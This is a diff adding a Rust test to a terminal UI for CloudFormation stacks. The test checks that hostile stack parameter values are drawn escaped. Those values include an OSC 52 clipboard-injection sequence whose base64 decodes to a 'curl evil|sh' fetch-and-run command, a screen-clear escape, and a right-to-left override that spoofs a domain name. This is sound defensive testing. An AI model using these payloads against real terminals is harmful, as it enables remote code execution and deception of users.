@@ -504,3 +504,84 @@ fn bad_input_is_echoed_escaped_and_cut_and_nothing_is_saved() {
     assert_inert("a bad config key", &err);
     assert!(err.contains("vpc\\u001b[2J"), "{err}");
 }
+
+/// A stack's parameter values are AWS's text (anyone who could update the stack chose them):
+/// the wizard's form, filled from the deployed stack for an update, draws them escaped, with
+/// the cursor where the escaped text puts it, and never hands a control character to the
+/// terminal.
+#[test]
+fn hostile_deployed_parameters_fill_the_form_escaped() {
+    use crossterm::event::KeyCode;
+    use studio_tui::ui::app::App;
+    let osc = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\r";
+    let hostile = [
+        ("ProjectName", "sagemaker-studio-vpc"),
+        ("VpcCIDR", "10.2.0.0/16"),
+        ("FirewallSubnetCIDR", "10.2.1.0/24"),
+        ("NATGatewaySubnetCIDR", "10.2.2.0/24"),
+        ("SageMakerStudioSubnetCIDR", "10.2.3.0/24"),
+        (
+            "AllowedDomains",
+            &*format!("iam.amazonaws.com,.pypi.org{osc},evil\u{202e}gro.example"),
+        ),
+        ("AllowedBuckets", &*format!("share{osc}")),
+    ]
+    .into_iter()
+    .map(|(k, v)| (k.to_string(), v.to_string()))
+    .collect();
+    let stack = studio_tui::aws::stacks::StackInfo {
+        stack_id: "arn:aws:cloudformation:eu-west-1:123456789012:stack/sagemaker-studio-vpc/1"
+            .into(),
+        stack_name: "sagemaker-studio-vpc".into(),
+        status: "UPDATE_COMPLETE".into(),
+        status_reason: None,
+        outputs: BTreeMap::new(),
+        parameters: hostile,
+        creation_time: None,
+        last_updated_time: None,
+    };
+    let mut a = App::new(
+        vec![],
+        studio_tui::aws::SessionOptions {
+            profile: None,
+            region: Some("eu-west-1".into()),
+            endpoint_url: None,
+            fake_credentials: true,
+            read_only: false,
+        },
+        false,
+        studio_tui::ui::theme::Theme { color: false },
+    );
+    a.open_overview(stack);
+    assert_inert("the overview", &common::draw(&a, 120, 40));
+    // `d`: an update, the form filled from the deployed stack (preflight first).
+    a.update(common::key(KeyCode::Char('d')));
+    assert_inert("preflight of the update", &common::draw(&a, 120, 40));
+    let form = studio_tui::ui::screens::params::ParamsState::new(
+        &studio_tui::ops::params::over_deployed(&Default::default(), &a_deployed(osc), &[]),
+        vec![],
+    );
+    let mut t = ratatui::Terminal::new(ratatui::backend::TestBackend::new(120, 40)).unwrap();
+    t.draw(|f| form.render(f, f.area(), &studio_tui::ui::theme::Theme { color: false }))
+        .unwrap();
+    let screen = t.backend().to_string();
+    assert_inert("the parameters form", &screen);
+    assert!(
+        screen.contains("share\\u001b]52;c;"),
+        "the escape sequence is drawn as text: {screen}"
+    );
+    assert!(screen.contains("evil\\u202egro"), "{screen}");
+}
+
+fn a_deployed(osc: &str) -> BTreeMap<String, String> {
+    [
+        (
+            "AllowedDomains",
+            format!("iam.amazonaws.com,evil\u{202e}gro.example{osc}"),
+        ),
+        ("AllowedBuckets", format!("share{osc}")),
+    ]
+    .into_iter()
+    .map(|(k, v)| (k.to_string(), v))
+    .collect()
+}
